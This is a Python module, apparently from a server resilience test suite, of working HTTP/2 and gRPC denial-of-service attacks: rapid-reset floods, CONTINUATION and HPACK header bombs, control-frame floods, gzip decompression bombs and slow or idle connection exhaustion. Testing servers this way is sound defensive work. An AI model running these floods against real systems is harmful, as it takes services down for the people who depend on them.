"""What hostile clients do to a server. Each attack is a function of the server's address, the address it comes from and the seconds that it
takes; it returns a few words about how it went."""
import select
import struct
import time
import zlib

from http2 import (ACK, CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, HEALTH_CHECK, HEALTH_WATCH, HOSTILE_TOKEN,
                   INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, frame, integer, literal,
                   request, request_headers, setting)

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def flood(address, source, seconds, begin, chunk, read=True):
    """Sends begin, a text or a function of the connection that sends it, and then chunk again and again; comes back when hung up on."""
    end = time.monotonic() + seconds
    sent = hang_ups = 0
    while time.monotonic() < end:
        try:
            connection = Connection(address, source=source)
            connection.send(begin(connection) if callable(begin) else begin)
            while time.monotonic() < end:
                data = chunk(connection) if callable(chunk) else chunk
                connection.socket.settimeout(max(end - time.monotonic(), 0.01))
                connection.send(data)
                sent += len(data)
                if read:
                    connection.discard()
        except OSError:
            hang_ups += 1
    return f"{sent / 1e6:.1f} MB, {hang_ups} hang-ups"


# Calls.


def calls(address, source, seconds, token, reset, read=True):
    """Begins calls as fast as it can, each 7 bytes of headers once the first has filled the table; resets them or waits for nothing."""
    fields = request_headers(HEALTH_CHECK, token)
    block = bytes(0x80 | (61 + len(fields) - i) for i in range(len(fields)))
    head = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS | END_STREAM])
    reset_head = frame(RST_STREAM, 0, 0, b"1234")[:5]

    def begin(connection):
        first = frame(HEADERS, END_HEADERS | END_STREAM, connection.new_stream(), request(HEALTH_CHECK, token, indexed=True))
        return first + frame(SETTINGS, ACK, 0)

    def chunk(connection):
        out = []
        for _ in range(500):
            stream = struct.pack(">I", connection.new_stream())
            out.append(head + stream + block)
            if reset:
                out.append(reset_head + stream + b"\0\0\0\x08")
        return b"".join(out)

    return flood(address, source, seconds, begin, chunk, read)


@attack
def rapid_reset(*where):
    return calls(*where, token=None, reset=True)


@attack
def rapid_reset_with_token(*where):
    return calls(*where, token=HOSTILE_TOKEN, reset=True)


@attack
def rapid_reset_of_a_colleague(address, source, seconds):
    """From the address of those who are to be served."""
    return calls(address, address[0], seconds, token=HOSTILE_TOKEN, reset=True)


@attack
def refused_calls(*where):
    return calls(*where, token=None, reset=False)


@attack
def refused_calls_unread(*where):
    return calls(*where, token=None, reset=False, read=False)


def open_calls(address, source, seconds, token, path=HEALTH_CHECK, settings=b"", rest=lambda stream: b""):
    """50 connections with 1,000 calls each that do not end, whatever the server's settings say."""
    end = time.monotonic() + seconds
    connections = []
    refused = 0
    for _ in range(50):
        try:
            connection = Connection(address, settings=settings, source=source, timeout=1)
            connections.append(connection)
            for _ in range(10):
                streams = [connection.new_stream() for _ in range(100)]
                connection.send(b"".join(frame(HEADERS, END_HEADERS, each, request(path, token)) + rest(each) for each in streams))
        except OSError:
            refused += 1
        if time.monotonic() > end:
            break
    time.sleep(max(end - time.monotonic(), 0))
    return f"{len(connections)} connections, {refused} hang-ups"


@attack
def open_calls_without_token(*where):
    return open_calls(*where, token=None)


@attack
def open_calls_with_token(*where):
    return open_calls(*where, token=HOSTILE_TOKEN)


@attack
def answers_never_read(*where):
    return open_calls(*where, token=HOSTILE_TOKEN, path=HEALTH_WATCH, settings=setting(INITIAL_WINDOW_SIZE, 0),
                      rest=lambda stream: frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))


# Headers.

BEGIN_HEADERS = frame(HEADERS, 0, 1, request(HEALTH_CHECK))
LONG_STRING = frame(HEADERS, 0, 1, request(HEALTH_CHECK) + b"\0" + integer(1, 7) + b"x" + integer(1 << 30, 7))


@attack
def endless_headers(*where):
    block = literal("x", "y" * 20) * 600
    return flood(*where, BEGIN_HEADERS, frame(CONTINUATION, 0, 1, block) * 4)


@attack
def endless_string(*where):
    return flood(*where, LONG_STRING, frame(CONTINUATION, 0, 1, b"y" * 16_384) * 4)


@attack
def endless_string_by_bytes(*where):
    return flood(*where, LONG_STRING, frame(CONTINUATION, 0, 1, b"y") * 3_000)


@attack
def endless_integer(*where):
    return flood(*where, frame(HEADERS, 0, 1, b"\0\x7f\x80"), frame(CONTINUATION, 0, 1, b"\x80" * 16_384) * 4)


@attack
def empty_continuations(*where):
    return flood(*where, BEGIN_HEADERS, frame(CONTINUATION, 0, 1) * 3_000)


def table_bomb(*where, token, value_bytes, references, flags):
    """Puts a long header into HPACK's table, and names it in a byte many times in each call."""

    def block(connection, rest):
        return frame(HEADERS, flags, connection.new_stream(), request(HEALTH_CHECK, token) + rest)

    def begin(connection):
        return frame(SETTINGS, ACK, 0) + block(connection, literal("x", "y" * value_bytes, indexed=True))

    return flood(*where, begin, lambda connection: b"".join(block(connection, b"\xbe" * references) for _ in range(8)))


@attack
def table_bomb_without_token(*where):
    return table_bomb(*where, token=None, value_bytes=3_900, references=10_000, flags=END_HEADERS | END_STREAM)


@attack
def table_bomb_in_open_calls(*where):
    return table_bomb(*where, token=HOSTILE_TOKEN, value_bytes=3_500, references=2, flags=END_HEADERS)


# Other frames. Those with a token have been let in, and meet the limits that everybody has.


def settle(connection):
    """One call with a token, and the server's settings acknowledged."""
    if not connection.is_served(2, HOSTILE_TOKEN):
        raise ConnectionError("not served")
    return b""


@attack
def pings(*where):
    return flood(*where, b"", frame(PING, 0, 0, b"12345678") * 1_000)


@attack
def pings_with_token_unread(*where):
    return flood(*where, settle, frame(PING, 0, 0, b"12345678") * 1_000, read=False)


@attack
def settings_with_token(*where):
    return flood(*where, settle, frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535)) * 1_000)


@attack
def settings_with_token_unread(*where):
    return flood(*where, settle, frame(SETTINGS, 0, 0) * 1_000, read=False)


@attack
def window_updates_with_token(*where):
    return flood(*where, settle, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1_000)


@attack
def window_overflow(*where):
    return flood(*where, b"", frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2)


@attack
def resets_with_token(*where):
    return flood(*where, settle, frame(RST_STREAM, 0, 1, b"\0\0\0\x08") * 1_000)


@attack
def unknown_frames_with_token(*where):
    return flood(*where, settle, frame(77, 0, 0, b"z" * 2_000) * 50)


# Data.


@attack
def data_without_token(*where):
    """Far beyond the window, in a call that is refused."""
    return flood(*where, frame(HEADERS, END_HEADERS, 1, request(HEALTH_CHECK)), frame(DATA, 0, 1, b"\0\0\x3f\xff\xff" + b"z" * 16_000) * 4)


def send_messages(address, source, seconds, count, streams, message, headers):
    """On `count` connections with `streams` calls each, as much of the message as the server's windows allow; comes back when hung up on."""
    end = time.monotonic() + seconds
    senders = []
    sent = hang_ups = 0
    while time.monotonic() < end:
        moved = 0
        try:
            if len(senders) < count:
                senders.append(MessageSender(Connection(address, source=source, timeout=1), streams, message, headers))
        except OSError:
            hang_ups += 1
        for sender in list(senders):
            try:
                moved += sender.send_some()
            except OSError:
                senders.remove(sender)
                hang_ups += 1
        sent += moved
        if moved == 0:
            time.sleep(0.01)
    return f"{sent / 1e6:.1f} MB, {hang_ups} hang-ups"


@attack
def messages_without_end(*where):
    message = b"\0" + struct.pack(">I", 3_900_000) + b"z" * 3_899_999
    return send_messages(*where, 20, 100, message, request(HEALTH_CHECK, HOSTILE_TOKEN))


@attack
def compressed_bombs(*where):
    """Messages of 130 kB that are 128 MiB of zeros once gRPC has decompressed them."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    packed = packer.compress(bytes(128 << 20)) + packer.flush()
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    return send_messages(*where, 20, 20, message, request(HEALTH_CHECK, HOSTILE_TOKEN) + literal("grpc-encoding", "gzip"))


class MessageSender:
    """Sends a message on many streams, as fast as the windows of the connection and of the streams allow."""

    def __init__(self, connection, streams, message, headers):
        self.connection = connection
        self.message = message
        self.initial = self.window = 65_535
        self.windows = {connection.new_stream(): self.initial for _ in range(streams)}
        self.sent = dict.fromkeys(self.windows, 0)
        connection.send(b"".join(frame(HEADERS, END_HEADERS, each, headers) for each in self.windows))

    def send_some(self):
        moved = 0
        for stream, sent in self.sent.items():
            size = min(16_384, self.window, self.windows[stream], len(self.message) - sent)
            if size > 0:
                self.connection.send(frame(DATA, 0, stream, self.message[sent:sent + size]))
                self.window -= size
                self.windows[stream] -= size
                self.sent[stream] += size
                moved += size
        try:
            while self.follow(self.connection.read_frame(time.monotonic())):
                pass
        except TimeoutError:
            pass
        return moved

    def follow(self, got):
        if got is None:
            raise ConnectionError("the server hung up")
        kind, flags, stream, payload = got
        self.connection.acknowledge(kind, flags, payload)
        if kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self.windows:
            self.windows[stream] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            for key, value in struct.iter_unpack(">HI", payload):
                if key == INITIAL_WINDOW_SIZE:
                    self.windows = {each: window + value - self.initial for each, window in self.windows.items()}
                    self.initial = value
        return True


# Connections.


def connections(address, source, seconds, stage, count, drip=b""):
    """Opens many up to a stage. They do nothing more, or send a byte a second."""
    end = time.monotonic() + seconds
    open_ones = []
    refused = 0
    while len(open_ones) + refused < count and time.monotonic() < end:
        try:
            open_ones.append(Connection(address, stage, source=source, timeout=1))
        except OSError:
            refused += 1
    opened = len(open_ones)
    for byte in drip:
        time.sleep(max(min(1, end - time.monotonic()), 0))
        for each in open_ones:
            try:
                each.send(bytes([byte]))
            except OSError:
                pass
    time.sleep(max(end - time.monotonic(), 0))
    waiting = select.poll()
    for each in open_ones:
        waiting.register(each.socket.fileno(), select.POLLRDHUP | select.POLLHUP)
    return f"{opened} opened, {refused} refused, {len(waiting.poll(0))} ended by the server"


@attack
def idle_without_tls(*where):
    return connections(*where, "tcp", 10_000)


@attack
def idle_with_tls(*where):
    return connections(*where, "tls", 2_000)


@attack
def idle_with_http2(*where):
    return connections(*where, "http2", 2_000)


@attack
def slow_handshakes(*where):
    return connections(*where, "tcp", 500, drip=b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")


@attack
def slow_prefaces(*where):
    return connections(*where, "tls", 500, drip=PREFACE)


@attack
def handshakes(address, source, seconds):
    end = time.monotonic() + seconds
    done = failed = 0
    while time.monotonic() < end:
        try:
            Connection(address, "tls", source=source).close()
            done += 1
        except OSError:
            failed += 1
    return f"{done} handshakes, {failed} failed"
